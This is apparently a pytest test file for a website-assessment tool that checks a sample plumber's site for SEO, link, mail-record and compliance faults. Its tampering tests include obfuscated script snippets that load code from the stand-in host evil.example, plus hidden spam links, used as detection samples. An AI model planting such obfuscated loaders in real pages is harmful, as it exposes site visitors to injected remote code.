from __future__ import annotations

from dataclasses import replace

import pytest

from lfassess.checks.advice_catalogue import catalogue, worths
from lfassess.checks.base import AWAITS, Severity
from lfassess.checks.onpage.catalogue import KINDS
from lfassess.checks.onpage.evidence import (
    Alternate,
    Form,
    Lead,
    Link,
    Mail,
    Robots,
    Sign,
    Sitemap,
    Tags,
    Tried,
)
from lfassess.checks.onpage.judge import judge
from tests.checks.onpage.pages import (
    BODY,
    DATA,
    HEAD,
    LEAD,
    MAIL,
    OTHERS,
    SAID,
    URL,
    evidence,
    html,
    inner,
    judged,
    page,
    said,
    without,
)


def head(*pieces: str, more: str = "") -> str:
    return html(without(HEAD, *pieces) + more)


TITLE = "<title>Plumber in Cedar Falls - Brightwater Plumbing</title>"
MOVED = DATA.replace("12 Mill Street", "9 Oak Road").replace("Cedar Falls", "Waterloo")
MOVED = MOVED.replace("50613", "50701")
CANONICAL = f'<link rel="canonical" href="{URL}">'


def test_nothing_is_said_of_a_clean_site_but_praise():
    found = judged().findings
    assert {f.code for f in found} == {
        "onpage-listed-well",
        "onpage-described-well",
        "onpage-mail-protected",
    }
    assert all(f.severity is Severity.PASSED for f in found)


def test_every_finding_has_advice_and_every_advice_a_finding():
    ours = {c for c in (*catalogue(), *worths()) if c.startswith("onpage-")}
    assert ours == KINDS.keys()


@pytest.mark.parametrize(
    ("code", "text"),
    [
        ("noindex", head(more="<meta name=robots content='NOINDEX, follow'>")),
        ("noindex", head(more="<meta name=googlebot content=none>")),
        ("canonical-elsewhere", head(CANONICAL, more="<link rel=canonical href=https://old.example/>")),
        ("canonicals-several", head(more="<link rel=canonical href=/home>")),
        ("canonical-relative", head(CANONICAL, more="<link rel=canonical href=/>")),
        ("no-title", head(TITLE)),
        ("no-title", head(TITLE, more="<title> </title>")),
        ("generic-title", head(TITLE, more="<title>Home</title>")),
        ("generic-title", head(TITLE, more="<title>brightwater.example</title>")),
        ("generic-title", head(TITLE, more="<title>Untitled Document</title>")),
        ("title-length", head(TITLE, more="<title>Brightwater</title>")),
        ("title-length", head(TITLE, more=f"<title>Brightwater Plumbing {'and more ' * 6}</title>")),
        ("several-titles", head(more="<title>Another title of this page</title>")),
        ("title-unrelated", head(TITLE, more="<title>Xenon Quartz Vector Yonder</title>")),
        ("no-h1", html(body=BODY.replace("h1>", "h2>"))),
        ("several-h1", html(body=BODY + "<h1>Our vans</h1>")),
        ("generic-h1", html(body=BODY.replace("Your plumber in Cedar Falls", "Welcome to our website!"))),
        ("heading-order", html(body=BODY.replace("h2>", "h4>"))),
        ("thin-content", html(body=BODY.replace(SAID * 5, "Call us."))),
        ("sample-text", html(body=BODY + "<p>Lorem ipsum dolor sit amet</p>")),
        ("sample-text", html(body=BODY + "<p>© Your Website 2023</p>")),
        ("garbled-text", html(body=BODY + "<p>cafÃ© and donâ€™t</p>")),
        ("no-language", html(lang="")),
        ("no-language", html(lang=" lang=english_us")),
        ("wrong-language", html(lang=" lang=de")),
        ("bad-hreflang", head(more="<link rel=alternate hreflang=en-UK href=/>")),
        ("bad-hreflang", head(more="<link rel=alternate hreflang=fr href=/fr>")),
        ("no-structured-data", head(DATA)),
        ("data-broken", head(DATA, more=DATA.replace('"Plumber",', '"Plumber",,'))),
        ("no-local-business", head(DATA, more=DATA.replace("Plumber", "Organization"))),
        ("data-incomplete", head(DATA, more=DATA.replace('"name"', '"nickname"'))),
        ("data-sparse", head(DATA, more=DATA.replace("openingHours", "hours"))),
        ("data-differs", head(DATA, more=DATA.replace("555-0142", "555-0199"))),
        ("data-address", head(DATA, more=MOVED)),
        ("self-rating", head(DATA, more=DATA.replace('"geo"', '"aggregateRating": {"ratingValue": 5}, "geo"'))),
        ("no-share-preview", head('<meta property="og:image" content="/van.jpg">')),
        ("social-sample", html(body=BODY + "<a href=https://www.facebook.com/>f</a>")),
        ("social-profiles", html(body=BODY + "<a href=https://www.facebook.com/brightwater>f</a>")),
        ("staging-links", html(body=BODY + "<a href=http://localhost:3000/a>a</a>")),
        ("staging-links", html(body=BODY + "<a href=http://192.168.1.20/a>a</a>")),
        ("staging-links", html(body=BODY + "<a href=https://joe.wpengine.com/>a</a>")),
        ("http-links", html(body=BODY + "<a href=http://brightwater.example/old>old</a>")),
        ("vague-links", html(body=BODY + "<a href=/services>Click here!</a>")),
        ("odd-addresses", html(body=BODY + "<a href='/Our%20Vans'>vans</a>")),
        ("insecure-form", html(body=BODY + "<form action=http://x.example/><input name=mail></form>")),
        ("no-analytics", head('<script src="https://plausible.io/js/script.js"></script>')),
        ("tampering", html(body=BODY + "<p style='display: none'><a href=https://x.example/>buy viagra</a>")),
    ],
)  # fmt: skip
def test_says_what_is_wrong_on_the_home_page(code, text):
    clean = said()
    assert clean == {}
    assert code in said(text)


@pytest.mark.parametrize(
    ("text", "address"),
    [
        (head(DATA, more=MOVED), None),  # nothing to hold it against
        (head(DATA, more=MOVED), "80 Pine Street, Ames, IA 50010"),  # the pages show another one
        (head(DATA, more=MOVED), "Cedar Falls"),  # a town alone
        (head(more=MOVED), LEAD.address),  # a chain's data, of which one is this one
        (html(without(HEAD, DATA) + MOVED, BODY + "<p>9 Oak Road, Waterloo, IA 50701</p>"), LEAD.address),
        (head(DATA, more=DATA.replace("12 Mill Street", "12 Mill St.")), LEAD.address),
    ],
)  # fmt: skip
def test_address_in_the_data_is_held_against_the_one_that_the_pages_show(text, address):
    assert "data-address" not in said(text, lead=replace(LEAD, address=address))


def test_ones_own_copy_is_known_by_its_name():
    home = page(
        html(body=BODY + "<a href=https://staging.example.com/>a</a>"), "https://example.com/"
    )
    assert "staging-links" in said(home)


OLD = '<script async src="https://www.google-analytics.com/analytics.js"></script>'


def test_old_statistics_count_only_where_there_are_no_others():
    plausible = '<script src="https://plausible.io/js/script.js"></script>'
    gtm = "<script src=https://www.googletagmanager.com/gtm.js?id=GTM-1></script>"
    assert "old-analytics" in said(head(plausible, more=OLD))
    assert said(head(more=OLD)) == {}
    assert said(head(plausible, more=OLD + gtm)) == {}


PLAUSIBLE = '<script src="https://plausible.io/js/script.js"></script>'
GTM = "<script src=https://www.googletagmanager.com/gtm.js?id=GTM-1></script>"
IDLE = Tags(("gtm",), watched_s=1.0)


@pytest.mark.parametrize(
    ("tags", "more", "idle"),
    [
        (IDLE, "", True),
        (replace(IDLE, technologies=("gtm", "unheard_of")), "", True),
        (replace(IDLE, watched_s=0.99), "", False),  # it may start something later
        (replace(IDLE, technologies=("gtm", "ga4")), "", False),
        (replace(IDLE, technologies=()), "", False),  # it did not load
        (replace(IDLE, others=("cdn.test",)), "", False),  # nobody knows what that is
        (replace(IDLE, consent=True), "", False),
        (IDLE, PLAUSIBLE, False),  # there are statistics besides
        (None, "", False),  # no browser watched it
    ],
)
def test_a_tag_manager_is_idle_where_a_browser_watched_it_start_nothing(tags, more, idle):
    found = judged(head(PLAUSIBLE, more=GTM + more), tags=tags)
    assert ("onpage-idle-tag-manager" in {f.code for f in found.findings}) == idle


@pytest.mark.parametrize(
    ("scripts", "tags", "awaited"),
    [(GTM, None, True), (GTM, IDLE, False), (GTM + PLAUSIBLE, None, False), ("", None, False)],
)
def test_a_browser_is_awaited_where_a_tag_manager_may_start_the_only_statistics(
    scripts, tags, awaited
):
    metrics = judged(head(PLAUSIBLE, more=scripts), tags=tags).metrics
    assert (AWAITS in metrics) == awaited


def test_what_a_business_pays_for_calls_and_ads_is_named():
    paid = "<script src=//cdn.callrail.com/x.js></script>"
    assert said(head(more=paid))["advertising"] == "CallRail"


@pytest.mark.parametrize(
    "text",
    [
        html(body=BODY + "<a href=https://test.de/>test</a><a href=https://dev.to/>dev</a>"),
        html(body=BODY + "<a href=https://www.facebook.com/sharer/sharer.php?u=x>share</a>"),
        html(body=BODY + "<a href=#top>here</a><a href=mailto:a@brightwater.example>here</a>"),
        html(body=BODY + "<a href=javascript:void(0)>here</a>"),
        head(DATA, more=DATA.replace('"geo": {"latitude": 42.53, "longitude": -92.44}', '"areaServed": "Iowa"')),
        head(more="<link rel=alternate hreflang=en href=/><link rel=alternate hreflang=de-AT href=/de>"),
        head(more="<link rel=alternate hreflang=x-default href=/><link rel=alternate hreflang=zh-Hans-CN href=/zh>"),
        html(body=BODY + "<p>Our casino nights: casino tables for your party</p><p style='display:none'>"
             "<a href=https://x.example/>casino</a></p>"),
        html(body=BODY + "<div style='display:none'><a href=https://x.example/>Menu</a></div>"),
        html(body=BODY + "<script>var a = atob('aGVsbG8gd29ybGQsIGhlbGxv'); eval(a)</script>"),
        html(body=BODY + "<svg><title>Logo</title></svg>"),
        html(body=BODY + "<p>naïve café, Ærø, Ångström, smörgåsbord</p>"),
        head(TITLE, more="<title>Plumbers open all night | Cedar Falls</title>"),
    ],
)  # fmt: skip
def test_says_nothing_where_nothing_is_wrong(text):
    assert set(said(text)) <= {"mail-only"} - ({"mail-only"} if "mailto" not in text else set())


def test_headers_count_as_the_page_does():
    sent = page(headers=(("X-Robots-Tag", "googlebot: noindex"),))
    assert "noindex" in said(sent)
    assert said(page(headers=(("X-Robots-Tag", "otherbot: noindex"),))) == {}
    assert said(page(headers=(("X-Robots-Tag", "max-snippet: 20"),))) == {}
    link = (("Link", '<https://brightwater.example/x>; rel="canonical"'),)
    assert "canonicals-several" in said(page(headers=link))


@pytest.mark.parametrize(
    ("code", "robots"),
    [
        ("robots-forbids", Robots(200, forbids_all=True, forbids_google=True)),
        ("robots-forbids", Robots(200, forbids_google=True)),
        ("robots-failing", Robots(503)),
        ("robots-no-text", Robots(200, text=False)),
        ("ai-answers-blocked", Robots(200, forbidden_bots=("PerplexityBot",))),
        ("ai-training-blocked", Robots(200, forbidden_bots=("GPTBot", "CCBot"))),
    ],
)
def test_says_whom_robots_txt_keeps_out(code, robots):
    assert set(said(robots=robots)) == {code}


def test_says_which_assistants_robots_txt_keeps_out_unless_it_keeps_out_everyone():
    bots = ("GPTBot", "OAI-SearchBot", "CCBot")

    kept_out = said(robots=Robots(200, forbidden_bots=bots))

    assert kept_out == {
        "ai-answers-blocked": "robots.txt forbids OAI-SearchBot",
        "ai-training-blocked": "robots.txt forbids GPTBot, CCBot",
    }
    nobody = Robots(200, forbids_all=True, forbids_google=True, forbidden_bots=bots)
    assert set(said(robots=nobody)) == {"robots-forbids"}


def test_a_missing_robots_txt_is_fine():
    assert said(robots=Robots(404)) == {}


@pytest.mark.parametrize(
    ("code", "sitemap"),
    [
        ("sitemap-broken", Sitemap(URL + "s.xml", 404, named=True)),
        ("sitemap-broken", Sitemap(URL + "s.xml", 200, fault="its XML is broken (x)")),
        ("sitemap-foreign", Sitemap(URL + "s.xml", 200, foreign=("https://old.example/",))),
        ("sitemap-dead", Sitemap(URL + "s.xml", 200, listed=(URL + "gone",))),
        ("tampering", Sitemap(URL + "s.xml", 200, signs=(Sign("spam_pages", "90 addresses"),))),
    ],
)
def test_says_what_is_wrong_with_the_sitemap(code, sitemap):
    pages = (*OTHERS, replace(inner("/gone", "Gone"), status=404, found="sitemap"))
    assert set(said(sitemap=sitemap, pages=pages)) == {code}


def test_language_versions_must_link_back():
    """By whatever address of the home page they name it."""
    home = page(
        head(
            more="<link rel=alternate hreflang=en href=/><link rel=alternate hreflang=de href=/de>"
        )
    )
    back = page(html("<link rel=alternate hreflang=en href=/><title>x</title>"), f"{URL}de")
    assert "/de" in said(home, pages=(*OTHERS, replace(back, alternates=())))["bad-hreflang"]
    assert "bad-hreflang" not in said(home, pages=(*OTHERS, back))
    assert "bad-hreflang" not in said(home)  # nobody read it
    moved = replace(
        home, url=f"{URL}en", asked=URL, alternates=(*home.alternates, Alternate("en", f"{URL}en"))
    )
    assert "bad-hreflang" not in said(moved, pages=(*OTHERS, back))


def test_a_sitemap_is_missed_on_larger_sites_only():
    many = tuple(inner(f"/page-{n}", f"What we repair, part {n}") for n in "abcdef")
    assert "no-sitemap" in said(sitemap=None, pages=(*OTHERS, *many))
    assert said(sitemap=None) == {}
    assert said(sitemap=None, pages=many[:4]) == {}
    assert said(sitemap=None, pages=many[:5]) == {"no-sitemap": "6 pages were found by their links"}
    for status in (None, 403, 429, 503, 999):  # nobody knows whether there is one
        for named in (True, False):
            unread = Sitemap(URL + "sitemap.xml", status, named=named)
            assert said(sitemap=unread, pages=(*OTHERS, *many)) == {}


def test_says_that_missing_pages_look_well():
    assert "soft-404" in said(made_up_status=200, made_up_title="Home")
    assert said(made_up_status=None) == {}


def test_all_canonicals_pointing_home_are_a_fault_and_one_is_none():
    strayed = [replace(p, canonicals=(URL,)) for p in OTHERS]
    assert "canonicals-home" in said(pages=tuple(strayed))
    assert said(pages=(strayed[0], *OTHERS[1:])) == {}


def test_a_canonical_address_must_be_where_visitors_end():
    home = head(CANONICAL, more=f"<link rel=canonical href={URL}home>")
    for answer in (Tried(URL + "home", 404), Tried(URL + "home", 200, hops=1, ends=URL)):
        assert "canonical-broken" in said(home, tried=(answer,))
    for told_nothing in (200, 403, 429, 503, 999):
        answer = Tried(URL + "home", told_nothing, ends=URL + "home")
        assert said(home, tried=(answer,)) == {}


def test_shared_titles_are_those_of_different_pages():
    twins = (
        inner("/a", "One title for all of us"),
        replace(inner("/b", "x"), titles=("One title for all of us",)),
    )
    assert "same-titles" in said(pages=(*OTHERS, *twins))
    same = (inner("/a", "The same page twice"), inner("/b", "The same page twice"))
    assert said(pages=(*OTHERS, *same)) == {}


LINK = Link(URL + "vans", "Our vans", navigation=False, internal=True)


@pytest.mark.parametrize(
    ("code", "link", "answer"),
    [
        ("broken-links", LINK, Tried(LINK.url, 404)),
        ("broken-links", LINK, Tried(LINK.url, 500)),
        ("broken-navigation", replace(LINK, navigation=True), Tried(LINK.url, 410)),
        ("broken-external", Link("https://gone.example/", "Friends"), Tried("https://gone.example/", gone=True)),
        ("link-detours", LINK, Tried(LINK.url, 200, hops=3)),
    ],
)  # fmt: skip
def test_says_where_links_lead_nowhere(code, link, answer):
    home = page()
    linking = replace(home, links=(*home.links, link))
    assert set(said(linking, tried=(answer,))) == {code}


@pytest.mark.parametrize("status", [200, 301, 401, 403, 429, 503, 999])
def test_a_refusal_is_no_broken_link(status):
    home = page()
    linking = replace(home, links=(*home.links, LINK))
    assert said(linking, tried=(Tried(LINK.url, status),)) == {}


def test_what_a_network_answers_tells_nothing():
    link = Link("https://www.instagram.com/brightwater", "Instagram")
    linking = replace(page(), links=(*page().links, link))
    assert set(said(linking, tried=(Tried(link.url, 404),))) == {"social-profiles"}


def test_a_page_that_was_read_counts_as_tried():
    gone = replace(inner("/services", "Gone"), status=404)
    assert set(said(pages=(gone, *OTHERS[1:]))) == {"broken-navigation"}


@pytest.mark.parametrize(
    ("answer", "evidence_says"),
    [
        (Tried(URL + "van.jpg", 404), "answers 404"),
        (Tried(URL + "van.jpg", gone=True), "doesn't exist"),
        (Tried(URL + "van.jpg", 200, width=120, height=630), "120 by 630"),
    ],
)
def test_a_share_picture_must_be_there_and_large_enough(answer, evidence_says):
    assert evidence_says in said(tried=(answer,))["share-picture"]


CALL = '<a href="tel:+13195550142">(319) 555-0142</a>'
STREET = " 12 Mill Street, Cedar Falls, IA 50613"


@pytest.mark.parametrize(
    ("code", "text"),
    [
        ("no-phone", html(without(HEAD, DATA), without(BODY, CALL))),
        ("no-tel-link", html(body=BODY.replace(CALL, "(319) 555-0142"))),
        ("no-address", html(without(HEAD, DATA), without(BODY, STREET))),
        ("no-privacy-policy", html(body=without(BODY, '<a href="/privacy">Privacy policy</a>'))),
    ],
)
def test_says_what_customers_miss(code, text):
    # The page of a privacy policy is one, whoever links to it.
    assert code in said(text, pages=OTHERS[:2] if code == "no-privacy-policy" else OTHERS)


@pytest.mark.parametrize(
    "left", ["(123) 456-7890", '<a href="tel:+15551234567">Call</a>', "Phone: 555-123-4567"]
)
def test_a_sample_number_is_no_phone_number_and_is_named(left):
    bare = html(without(HEAD, DATA), BODY.replace(CALL, f"{left}<br>"))
    assert said(bare)["no-phone"].startswith("only a sample number, “")
    assert "no-phone" not in said(html(body=f"{BODY} {left}"))


def test_nothing_is_missing_while_a_page_went_unread():
    bare = html(without(HEAD, DATA), without(BODY, CALL, STREET))
    missing = {"no-phone", "no-address"}
    assert missing <= set(said(bare))
    contact = OTHERS[1]
    turned_away = (replace(contact, status=403), replace(contact, unread="it is a bot check"))
    for unread in ({"pages": OTHERS[:1]}, {"refused": 1}, {"ended": "time"},
                   *({"pages": (OTHERS[0], one, OTHERS[2])} for one in turned_away)):  # fmt: skip
        assert not missing & set(said(bare, **unread))
    gone = (OTHERS[0], replace(contact, status=404), OTHERS[2])
    assert missing <= set(said(bare, pages=gone))


def test_no_way_to_write_is_a_fault_and_mail_alone_is_a_fact():
    nothing = html(
        body=f"<h1>Plumber in Cedar Falls</h1><p>{SAID * 5}{STREET}</p>{CALL}<a href=/p>Privacy</a>"
    )
    alone = {"pages": (replace(inner("/p", "Privacy at Brightwater"), forms=()),)}
    assert set(said(nothing, **alone)) == {"no-contact"}
    mail = nothing.replace("</h1>", "</h1>office@brightwater.example")
    assert set(said(mail, **alone)) == {"mail-only"}


@pytest.mark.parametrize(
    ("country", "severity"), [("US", Severity.MEDIUM), ("DE", Severity.HIGH), ("GB", Severity.HIGH)]
)
def test_a_privacy_policy_weighs_more_where_consent_is_asked(country, severity):
    text = html(body=without(BODY, '<a href="/privacy">Privacy policy</a>'))
    found = judged(text, lead=replace(LEAD, country=country), pages=OTHERS[:2]).findings
    assert next(f.severity for f in found if f.code == "onpage-no-privacy-policy") is severity


def test_an_imprint_and_consent_are_asked_for_where_people_expect_them():
    german = replace(LEAD, country="DE")
    pixel = "<script src=https://connect.facebook.net/en_US/fbevents.js></script>"
    assert set(said(lead=german)) == {"no-imprint"}
    assert "trackers-unasked" in said(head(more=pixel), lead=german)
    assert set(said(head(more=pixel))) == {"advertising"}
    tool = "<script src=https://consent.cookiebot.com/uc.js></script>"
    assert "trackers-unasked" not in said(head(more=pixel + tool), lead=german)
    imprint = html(body=BODY + "<a href=/impressum>Impressum</a>")
    pages = (*OTHERS, inner("/impressum", "Impressum von Brightwater"))
    assert said(imprint, lead=german, pages=pages) == {}


def test_a_form_sent_plainly_from_a_plain_page_is_the_connections_fault():
    form = replace(
        page(), url="http://brightwater.example/", forms=(Form("http://brightwater.example/"),)
    )
    assert "insecure-form" not in said(form)


@pytest.mark.parametrize(
    ("code", "mail"),
    [
        ("no-mx", {"mx": ()}),
        ("no-mx", {"mx": ("0 .",)}),
        ("open-spf", {"spf": ("v=spf1 all",)}),
        ("broken-spf", {"spf": ("v=spf1 -all", "v=spf1 -all")}),
        ("no-spf", {"spf": (), "lookups": None}),
        ("open-spf", {"spf": ("v=spf1 +all",)}),
        ("open-spf", {"spf": ("v=spf1 a mx ?all",)}),
        ("broken-spf", {"spf": ("v=spf1 -all", "v=spf1 a -all")}),
        ("broken-spf", {"lookups": 11}),
        ("no-dmarc", {"dmarc": ()}),
        ("no-dmarc", {"dmarc": ("v=DMARC1; p=reject", "v=DMARC1; p=none")}),
        ("no-dmarc", {"dmarc": ("v=DMARC1",)}),
        ("dmarc-none", {"dmarc": ("v=DMARC1; p=none; rua=mailto:a@x.example",)}),
    ],
)
def test_says_what_is_wrong_with_mail_records(code, mail):
    assert set(said(mail=replace(MAIL, **mail))) == {code}


@pytest.mark.parametrize(
    ("mail", "spf", "dmarc"),
    [
        ({}, True, "reject"),
        ({"spf": (), "lookups": None}, False, "reject"),
        ({"spf": ("v=spf1 +all",)}, False, "reject"),
        ({"spf": ("v=spf1 -all", "v=spf1 a -all")}, False, "reject"),
        ({"lookups": 11}, False, "reject"),
        ({"spf": None}, None, "reject"),
        ({"dmarc": ()}, True, "missing"),
        ({"dmarc": ("v=DMARC1",)}, True, "missing"),
        ({"dmarc": None}, True, None),
    ],
)
def test_facts_of_mail_records_say_what_the_findings_say(mail, spf, dmarc):
    facts = judged(mail=replace(MAIL, **mail)).metrics["mail"]
    assert (facts["spf"], facts["dmarc"]) == (spf, dmarc)


@pytest.mark.parametrize(
    ("mail", "faulty"),
    [
        ({}, ()),
        ({"spf": ("v=spf1 -all", "v=spf1 a -all")}, ("spf",)),
        ({"lookups": 11}, ("spf",)),
        ({"spf": ("v=spf1 +all",)}, ()),
        ({"spf": (), "dmarc": ()}, ()),
        ({"dmarc": ("v=DMARC1",)}, ("dmarc",)),
        ({"dmarc": ("v=DMARC1; p=none", "v=DMARC1; p=reject")}, ("dmarc",)),
        ({"spf": None, "dmarc": None}, ()),
    ],
)
def test_a_record_with_errors_is_no_missing_one(mail, faulty):
    assert tuple(judged(mail=replace(MAIL, **mail)).metrics["mail"]["faulty"]) == faulty


def test_a_record_that_names_no_policy_is_not_called_missing():
    evidence = said(mail=replace(MAIL, dmarc=("v=DMARC1",)))["no-dmarc"]
    assert "no DMARC record" not in getattr(evidence, "evidence", evidence)


def test_no_answer_is_not_missing():
    judgement = judged(mail=Mail("brightwater.example"))
    assert all(f.severity is Severity.PASSED for f in judgement.findings)
    assert "onpage-mail-protected" not in {f.code for f in judgement.findings}
    assert judgement.metrics["not_assessed"] == {"mail": "onpage.no_dns"}
    assert judged(mail=None).metrics["not_assessed"] == {"mail": "onpage.no_domain"}


def test_signs_of_tampering_wait_for_a_person():
    other = page(head(TITLE, more="<title>Cheap viagra online</title>"))
    judgement = judged(for_search_engine=other)
    assert judgement.metrics["needs_review"] == ["onpage-tampering"]
    assert "another page" in said(for_search_engine=other)["tampering"]
    tested = page(head(TITLE, more="<title>Plumbing, now ten per cent off</title>"))
    assert said(for_search_engine=tested) == {}


@pytest.mark.parametrize(
    "script",
    [
        "document.write(atob('PHNjcmlwdCBzcmM9Imh0dHBzOi8vZXZpbC5leGFtcGxlL2EuanMiPjwvc2NyaXB0Pg=='))",
        "eval(String.fromCharCode(47,47,101,118,105,108,46,101,120,97,109,112,108,101,47,97))",
        r"var s=document.createElement('script');s.src='\x2f\x2f\x65\x76\x69\x6c\x2e\x65\x78\x61\x6d\x70\x6c\x65'",
        "document.write(unescape('%3Cscript%20src=%22//%65%76%69%6C%2E%65%78%61%6D%70%6C%65/a%22%3E'))",
    ],
)  # fmt: skip
def test_a_script_that_hides_where_it_leads_is_a_sign(script):
    assert "evil.example" in said(html(body=BODY + f"<script>{script}</script>"))["tampering"]


def test_an_address_that_closed_is_said_without_a_visit():
    judgement = judged(closed="business.site")
    assert [f.code for f in judgement.findings] == ["onpage-address-gone"]
    visit = judgement.metrics["visit"]
    assert (visit["kind"], visit["code"], visit["shown"]) == ("no_site", "closed", "business.site")


@pytest.mark.parametrize(
    ("kind", "code", "reason"),
    [
        ("no_site", "parked", "onpage.no_site"),
        ("platform", "platform_page", "onpage.platform_page"),
        ("wall", "bot_wall", "onpage.bot_wall"),
        ("refused", "status_403", "onpage.refused"),
        ("unread", "encoding", "onpage.unread"),
    ],
)
def test_nothing_is_judged_that_was_not_seen(kind, code, reason):
    judgement = judged(visit={"kind": kind, "code": code, "shown": "", "url": URL})
    assert judgement.findings == ()
    assert judgement.metrics["reason"]["code"] == reason


def test_without_a_visit_or_a_page_that_could_be_read_nothing_is_judged():
    nothing = judge({})
    assert (nothing.findings, nothing.metrics["reason"]["code"]) == ((), "onpage.nothing_stored")
    garbled = judged(replace(page(), unread="encoding"), pages=())
    assert (garbled.findings, garbled.metrics["reason"]["code"]) == ((), "onpage.unread")
    assert garbled.metrics["visit"]["url"] == URL


@pytest.mark.parametrize(
    ("changes", "is_protected"),
    [
        ({}, True),
        ({"dmarc": ("v=DMARC1; p=quarantine",)}, True),
        ({"dmarc": ("v=DMARC1; p=none",)}, False),
        ({"dmarc": None}, False),
        ({"spf": None}, False),
        ({"spf": ("v=spf1 +all",)}, False),
        ({"spf": ()}, False),
    ],
)
def test_mail_is_protected_by_both_records_together(changes, is_protected):
    codes = {f.code for f in judged(mail=replace(MAIL, **changes)).findings}
    assert ("onpage-mail-protected" in codes) == is_protected


@pytest.mark.parametrize(
    ("every", "google", "named"),
    [
        (True, True, "to every search engine"),
        (True, False, "to every search engine but Google"),
        (False, True, "to Google"),
    ],
)
def test_says_to_whom_robots_txt_forbids_the_home_page(every, google, named):
    found = said(robots=Robots(200, forbids_all=every, forbids_google=google))
    assert found["robots-forbids"].endswith(named)


def test_an_empty_shell_is_judged_by_its_head_alone():
    shell = page(html(HEAD, "<div id=root></div><script src=/app.js></script>"))
    assert shell.shell
    visit = {"kind": "unread", "code": "script_shell", "shown": "", "url": URL}
    judgement = judged(shell, visit=visit, pages=())
    assert {f.code for f in judgement.findings} == {"onpage-needs-scripts", "onpage-mail-protected"}
    assert judgement.metrics["not_assessed"] == {"text": "onpage.needs_scripts"}


@pytest.mark.parametrize(
    ("mail", "severity"),
    [("office@brightwater.example", "medium"), ("brightwater@mail.example", "info")],
)
def test_a_domain_without_a_mail_server_is_a_fault_where_its_addresses_are_shown(mail, severity):
    text = html(body=BODY.replace("</h1>", f"</h1>{mail}"))
    found = judged(text, mail=replace(MAIL, mx=())).findings
    assert [f.severity for f in found if f.code == "onpage-no-mx"] == [severity]


LESS = html(body=f"<h1>Plumber in Cedar Falls</h1><p>{'word ' * 196}</p>")
NEWS = "<time datetime=2020-01-01>a</time><time datetime={}>b</time>"
VANS = replace(page(), links=(*page().links, Link(URL + "vans", "Our vans", internal=True)))


@pytest.mark.parametrize(
    ("code", "just_enough", "too_little"),
    [
        ("thin-content", (LESS,), (LESS.replace("word </p>", "</p>"),)),
        ("garbled-text", (html(body=BODY + "<p>cafÃ©</p>"),), (html(body=BODY + "<p>cafÃ© crÃ¨me</p>"),)),
        ("stale-news", (html(body=BODY + NEWS.format("2024-11-28")),), (html(body=BODY + NEWS.format("2024-11-27")),)),
    ],
)  # fmt: skip
def test_bounds_of_texts(code, just_enough, too_little):
    assert code not in said(*just_enough)
    assert code in said(*too_little)


@pytest.mark.parametrize(
    ("code", "fine", "fault"),
    [
        ("share-picture", Tried(URL + "van.jpg", 200, width=200, height=200), Tried(URL + "van.jpg", 200, width=199, height=200)),
        ("link-detours", Tried(URL + "vans", 200, hops=2), Tried(URL + "vans", 200, hops=3)),
    ],
)  # fmt: skip
def test_bounds_of_what_was_tried(code, fine, fault):
    assert code not in said(VANS, tried=(fine,))
    assert code in said(VANS, tried=(fault,))


def test_ten_look_ups_are_allowed():
    assert said(mail=replace(MAIL, lookups=10)) == {}


def test_a_builders_address_is_no_domain_of_ones_own():
    below = "https://brightwater.wixsite.com/home"
    assert "builder-address" in said(page(url=below), url=below)


def test_facts_for_the_seller_come_with_what_they_mean():
    words = "<script src=/wp-includes/js/wp-embed.min.js?ver=6.4.2></script><a href=https://wa.me/13195550142>Chat</a>"
    metrics = judged(html(body=BODY + words)).metrics
    tools = {tool["name"]: tool for tool in metrics["technologies"]}
    assert tools["WordPress"]["version"] == "6.4.2"
    assert "care plan" in tools["WordPress"]["says"]
    assert tools["WhatsApp button"]["category"] == "chat"
    assert metrics["mail"] == {
        "domain": "brightwater.example", "receives": True, "spf": True, "dmarc": "reject",
        "caa": False, "dnssec": False, "ipv6": True,
        "faulty": (),
    }  # fmt: skip
    assert metrics["pages"][0] == {
        "path": "/", "title": "Plumber in Cedar Falls - Brightwater Plumbing", "status": 200,
        "words": 252, "listed": True,
    }  # fmt: skip


def test_stale_news_is_told_by_a_list_of_dates():
    news = "<ul><li><time datetime=2021-03-01>a</time><li><time datetime=2022-04-05>b</time></ul>"
    assert said(html(body=BODY + news)) == {"stale-news": "the newest entry is of 2022-04-05"}
    assert said(html(body=BODY + news.replace("2022", "2026"))) == {}
    assert said(html(body=BODY + "<time datetime=2019-01-01>founded</time>")) == {}


def test_a_lead_without_name_and_town_tells_nothing_of_the_title():
    odd = head(TITLE, more="<title>Xenon Quartz Vector Yonder</title>")
    assert said(odd, lead=Lead("brightwater.example")) == {}
    assert "title-unrelated" in said(odd)


def test_evidence_of_the_whole_site_is_stored_and_read_back():
    one = evidence()
    assert type(one).from_json(one.to_json()) == one


@pytest.mark.parametrize(
    ("link", "answer", "shown"),
    [
        (LINK, Tried(LINK.url, 404), "“Our vans” to /vans (status 404)"),
        (replace(LINK, text=""), Tried(LINK.url, 500), "/vans (status 500)"),
        (
            Link("https://gone.example/a", "Friends"),
            Tried("https://gone.example/a", gone=True),
            "“Friends” to https://gone.example/a (no such website)",
        ),
        (
            Link("https://gone.example/" + "a" * 100),
            Tried("https://gone.example/" + "a" * 100, 404),
            f"https://gone.example/{'a' * 79} (status 404)",
        ),
    ],
)
def test_a_broken_link_is_shown_with_what_it_answered(link, answer, shown):
    linking = replace(page(), links=(*page().links, link))
    assert list(said(linking, tried=(answer,)).values()) == [shown]


def titled(title: str) -> str:
    return head(TITLE, more=f"<title>{title}</title>")


@pytest.mark.parametrize(
    ("length", "fault"),
    [
        (19, "19 characters, fewer than 20"),
        (20, None),
        (60, None),
        (61, "61 characters, more than 60"),
    ],
)
def test_a_titles_length_has_two_bounds(length, fault):
    title = "Brightwater Plumbing and heaters, by people who answer their phones"
    title = title[: length - 1] + "x"
    found = said(titled(title)).get("title-length")
    assert (found and found.rpartition(": ")[2]) == fault


@pytest.mark.parametrize(
    ("length", "fault"),
    [
        (79, "79 characters, fewer than 80"),
        (80, None),
        (160, None),
        (161, "161 characters, more than 160"),
    ],
)
def test_a_descriptions_length_has_two_bounds(length, fault):
    text = ("Brightwater Plumbing repairs " + "pipes, heaters and taps " * 8)[:length]
    text = text[:-1] + "x"
    changed = HEAD[: HEAD.index("Burst")] + text + HEAD[HEAD.index('"', HEAD.index("Burst")) :]
    found = said(html(changed)).get("description-length")
    assert (found and found.rpartition(": ")[2]) == fault


@pytest.mark.parametrize(
    "title",
    [
        "Xenon Quartz Vector Falls",  # a word of the address
        "Xenon Quartz Vector Plumbing",  # of the name
        "Xenon Quartz Vector-Bright-Water",  # of the name, in parts
